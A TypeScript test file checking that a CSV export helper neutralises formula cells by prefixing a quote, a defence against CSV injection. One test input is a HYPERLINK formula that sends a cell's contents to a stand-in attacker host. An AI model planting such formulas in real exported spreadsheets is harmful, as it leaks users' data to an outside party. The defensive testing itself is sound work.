import { describe, expect, it } from "vitest";
import { escapeFormulaCell, toCsvCells } from "./csv-cells";

describe("formula cells are escaped on export (OWASP CSV injection)", () => {
  it("prefixes a quote to a cell starting with =, +, -, @, tab or carriage return", () => {
    for (const value of ['=HYPERLINK("https://evil.example?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"]) {
      expect(escapeFormulaCell(value)).toBe(`'${value}`);
    }
  });

  it("leaves ordinary text, an empty cell and a formula character later in the text alone", () => {
    expect(escapeFormulaCell("Acme = Analytics")).toBe("Acme = Analytics");
    expect(escapeFormulaCell("")).toBe("");
    expect(escapeFormulaCell("Jane Doe")).toBe("Jane Doe");
  });

  it("writes dates as ISO 8601, nothing as empty, and numbers unescaped", () => {
    expect(toCsvCells([new Date("2026-11-17T14:00:00Z"), null, undefined, -5, true, "-5"])).toEqual([
      "2026-11-17T14:00:00.000Z",
      "",
      "",
      "-5",
      "true",
      "'-5",
    ]);
  });
});
